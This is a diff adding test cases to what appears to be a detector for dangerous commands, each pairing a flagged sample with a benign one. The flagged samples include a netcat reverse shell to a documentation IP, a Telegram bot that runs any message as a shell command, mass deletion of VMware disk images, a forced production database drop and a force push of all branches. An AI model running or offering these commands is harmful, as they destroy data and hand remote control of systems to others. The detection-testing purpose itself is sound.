@@ -311,6 +311,31 @@ const TEXT_CASES: Record<string, { hit: string; miss: string; path?: string }> =
     miss: "gh repo list --limit 5\ngh repo delete acme/scratch-test --yes",
     path: "scripts/x.sh",
   },
+  "destructive-argv": {
+    hit: 'package main\n\nimport "os/exec"\n\nfunc main() {\n\t_ = exec.Command("git", "push", "origin", "--force", "--all").Run()\n}\n',
+    miss: 'package main\n\nimport "os/exec"\n\nfunc main() {\n\t_ = exec.Command("git", "push", "origin", "feature/login").Run()\n}\n',
+    path: "scripts/x.go",
+  },
+  "destructive-datastore": {
+    hit: "find /vmfs/volumes/ -type f -name '*.vmdk' -delete",
+    miss: "find /vmfs/volumes/ -type f -name '*.vmdk' -size +1G",
+    path: "scripts/x.sh",
+  },
+  "destructive-schema-reset": {
+    hit: "RAILS_ENV=production DISABLE_DATABASE_ENVIRONMENT_CHECK=1 bin/rails db:drop",
+    miss: "RAILS_ENV=development bin/rails db:drop db:create",
+    path: "scripts/x.sh",
+  },
+  "reverse-shell-argv": {
+    hit: 'package main\n\nimport "os/exec"\n\nfunc main() {\n\t_ = exec.Command("nc", "203.0.113.9", "4444", "-e", "/bin/sh").Start()\n}\n',
+    miss: 'package main\n\nimport "os/exec"\n\nfunc main() {\n\t_ = exec.Command("nc", "-zv", "db.internal", "5432").Run()\n}\n',
+    path: "scripts/x.go",
+  },
+  "reverse-shell-chat": {
+    hit: "import subprocess, telebot\nbot = telebot.TeleBot(TOKEN)\n@bot.message_handler(func=lambda m: True)\ndef run(m):\n    bot.reply_to(m, subprocess.getoutput(m.text))\n",
+    miss: "import subprocess, telebot\nbot = telebot.TeleBot(TOKEN)\n@bot.message_handler(commands=['status'])\ndef status(m):\n    bot.reply_to(m, subprocess.getoutput('uptime'))\n",
+    path: "scripts/x.py",
+  },
   "disk-wipe": {
     hit: "sudo wipefs --all /dev/nvme0n1",
     miss: "sudo wipefs /dev/nvme0n1   # lists signatures, erases nothing",
